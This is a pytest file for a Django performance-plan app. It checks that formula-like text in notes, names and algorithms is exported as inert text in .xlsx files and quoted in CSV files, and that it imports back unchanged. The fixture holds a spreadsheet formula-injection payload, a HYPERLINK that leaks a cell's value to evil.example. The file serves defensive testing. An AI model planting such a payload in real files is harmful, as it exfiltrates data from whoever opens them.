"""Issue 15, item 7: text that looks like a formula leaves Misura as text, in every .xlsx and CSV, and the
importers read it back unchanged."""
from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from openpyxl import load_workbook

from performance.exporting import result_rows
from performance.importer import import_plan
from performance.models import Indicator, Measurement, Period
from performance.scorecard_excel import HEADER_ROW
from tests.helpers import client_for
from validation.opendata import results_csv

NUMBER = "1.5.03.04"  # on the RI scorecard, number, stored 5
PLAIN = "2.1.02.02"  # on the RI scorecard, number, target 350, stored 390
NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"Dettagli")'
NAME, ALGORITHM = "=1+1", "@SUM(A1:A9)"


@pytest.fixture
def hostile_texts(demo_cycle, period: Period) -> Indicator:
    """The note typed through the API by a service head; a name and an algorithm as a plan could carry them."""
    seen = Measurement.objects.get(indicator__cycle=demo_cycle, indicator__code=NUMBER, period=period)
    response = client_for("resp.ri").post("/api/v1/measurements/", {
        "cycle": demo_cycle.pk, "indicator": NUMBER, "period": period.code, "value": "5", "note": NOTE,
        "version": seen.version}, content_type="application/json")
    assert response.status_code == 200, response.content
    Indicator.objects.filter(cycle=demo_cycle, code=NUMBER).update(name=NAME, algorithm=ALGORITHM)
    # A negative number is a number: it must come out as written, not quoted.
    Measurement.objects.filter(indicator__cycle=demo_cycle, indicator__code=PLAIN, period=period).update(
        raw_value="-3")
    return Indicator.objects.get(cycle=demo_cycle, code=NUMBER)


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_a_note_saved_through_the_api_is_a_text_cell_in_the_plan_workbook(hostile_texts, tmp_path):
    call_command("export_plan", cycle=2023, entity="cciaa-bergamo", output=tmp_path / "piano.xlsx")
    sheet = load_workbook(tmp_path / "piano.xlsx")["valori"]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == NUMBER and r[header.index("nota")].value)
    cell = row[header.index("nota")]
    assert cell.value == NOTE
    assert cell.data_type == "s", "the note would be a live formula in Excel"


def test_a_note_saved_through_the_api_is_quoted_in_the_plan_csv(hostile_texts, tmp_path):
    call_command("export_plan", cycle=2023, entity="cciaa-bergamo", output=tmp_path / "piano")
    rows = _csv_rows((tmp_path / "piano" / "valori.csv").read_text(encoding="utf-8"))
    notes = {r["nota"] for r in rows if r["indicatore"] == NUMBER}
    assert "'" + NOTE in notes and NOTE not in notes
    indicators = {r["codice"]: r for r in _csv_rows((tmp_path / "piano" / "indicatori.csv").read_text("utf-8"))}
    assert indicators[NUMBER]["nome"] == "'" + NAME and indicators[NUMBER]["algoritmo"] == "'" + ALGORITHM
    assert {r["valore"] for r in rows if r["indicatore"] == PLAIN} == {"-3"}


def test_a_name_starting_with_a_formula_sign_is_text_in_the_results_workbook(hostile_texts, tmp_path):
    call_command("export_results", cycle=2023, format="xlsx", output=tmp_path / "risultati.xlsx")
    sheet = load_workbook(tmp_path / "risultati.xlsx").active
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("indicator")].value == NAME)
    assert row[header.index("indicator")].data_type == "s"
    assert row[header.index("algorithm")].value == ALGORITHM and row[header.index("algorithm")].data_type == "s"


def test_a_name_starting_with_a_formula_sign_is_quoted_in_the_results_csv(hostile_texts):
    out = io.StringIO()
    call_command("export_results", cycle=2023, format="csv", stdout=out)
    rows = _csv_rows(out.getvalue())
    assert {r["algorithm"] for r in rows if r["indicator"] == "'" + NAME} == {"'" + ALGORITHM}
    assert not any(r["indicator"] == NAME for r in rows)
    assert "-3" in {r["achieved"] for r in rows}


def test_the_public_results_csv_quotes_formula_text_but_not_negative_numbers(hostile_texts, demo_cycle):
    """risultati.csv of the open data (validation/opendata.py) is built by this function at publication."""
    rows = _csv_rows(results_csv(result_rows(demo_cycle), snapshot_sha256="0" * 64).decode("utf-8"))
    mine = [r for r in rows if r["indicator"] == "'" + NAME]
    assert mine and all(r["algorithm"] == "'" + ALGORITHM for r in mine)
    assert "-3" in {r["achieved"] for r in rows}


@pytest.mark.parametrize("output", ["piano.xlsx", "piano"])
def test_the_exported_plan_imports_back_with_the_texts_unchanged(hostile_texts, other_entity, tmp_path, output):
    call_command("export_plan", cycle=2023, entity="cciaa-bergamo", output=tmp_path / output)
    cycle = import_plan(tmp_path / output, year=2023, entity=other_entity).cycle
    copy = Indicator.objects.get(cycle=cycle, code=NUMBER)
    assert (copy.name, copy.algorithm) == (NAME, ALGORITHM)
    assert Measurement.objects.filter(indicator=copy, note=NOTE).exists()
    assert Measurement.objects.get(indicator__cycle=cycle, indicator__code=PLAIN, period__is_final=True).raw_value == "-3"


def test_the_downloaded_scorecard_uploads_back_with_the_note_unchanged(hostile_texts, demo_cycle, period):
    client = client_for("resp.ri")
    response = client.get(f"/cicli/{demo_cycle.pk}/schede/RI/excel/?periodo={period.code}")
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook["valori"]
    row = next(r for r in sheet.iter_rows(min_row=HEADER_ROW + 1) if r[0].value == NUMBER)
    assert all(c.data_type == "s" for c in row if isinstance(c.value, str))
    before = Measurement.objects.get(indicator=hostile_texts, period=period)
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = client.post(f"/cicli/{demo_cycle.pk}/schede/RI/excel/?periodo={period.code}",
                           {"file": SimpleUploadedFile("scheda.xlsx", buffer.getvalue())})
    assert response.status_code == 302
    after = Measurement.objects.get(pk=before.pk)
    assert (after.note, after.version) == (NOTE, before.version)
